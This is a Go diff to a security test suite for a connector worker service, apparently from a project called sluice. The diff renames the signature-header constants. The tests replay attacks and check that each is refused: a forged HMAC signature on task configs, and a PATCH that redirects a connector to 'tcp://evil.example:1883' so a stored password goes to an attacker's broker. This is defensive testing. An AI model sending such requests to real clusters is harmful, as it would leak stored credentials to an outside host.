@@ -19,6 +19,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/sluicehq/sluice/worker/sessionkey"
+
 	"github.com/sluicehq/sluice/worker/api"
 
 	"golang.org/x/crypto/bcrypt"
@@ -26,7 +28,6 @@ import (
 	"github.com/sluicehq/sluice/connect/connecttest"
 
 	"github.com/sluicehq/sluice/internal/sluicetest"
-	"github.com/sluicehq/sluice/worker"
 )
 
 // The security suite (issue 17): an attacker on the network replays each attack against real
@@ -108,7 +109,7 @@ func TestAttacksOnWorkersWithDefaultSettingsAreRefused(t *testing.T) {
 		{"write task configs unsigned", "POST", "/connectors/" + url.PathEscape(name) + "/tasks", evilTasks,
 			[]string{"Content-Type", "application/json"}, 400},
 		{"write task configs with a forged signature", "POST", "/connectors/" + url.PathEscape(name) + "/tasks", evilTasks,
-			[]string{"Content-Type", "application/json", worker.SignatureHeader, forged, worker.SignatureAlgorithmHeader, "HmacSHA256"}, 403},
+			[]string{"Content-Type", "application/json", sessionkey.Header, forged, sessionkey.AlgorithmHeader, "HmacSHA256"}, 403},
 		{"send a stored password to a new broker (PATCH)", "PATCH", "/connectors/" + stored + "/config", `{"mqtt.server.uris":"tcp://evil.example:1883"}`,
 			[]string{"Content-Type", "application/json"}, 400},
 		{"send a stored password to a new broker (PUT with [hidden])", "PUT", "/connectors/" + stored + "/config",
@@ -174,8 +175,8 @@ func TestSignedTaskConfigsReachTheLeader(t *testing.T) {
 	body := []byte(`[{"connector.class":"datagen","kafka.topic":"x"}]`)
 	req, _ := http.NewRequest("POST", ws[1].URL+"/connectors/"+url.PathEscape(names[0])+"/tasks", bytes.NewReader(body))
 	req.Header.Set("Content-Type", "application/json")
-	req.Header.Set(worker.SignatureHeader, base64.StdEncoding.EncodeToString(make([]byte, 32)))
-	req.Header.Set(worker.SignatureAlgorithmHeader, "HmacSHA256")
+	req.Header.Set(sessionkey.Header, base64.StdEncoding.EncodeToString(make([]byte, 32)))
+	req.Header.Set(sessionkey.AlgorithmHeader, "HmacSHA256")
 	resp, err := http.DefaultClient.Do(req)
 	if err != nil {
 		t.Fatal(err)
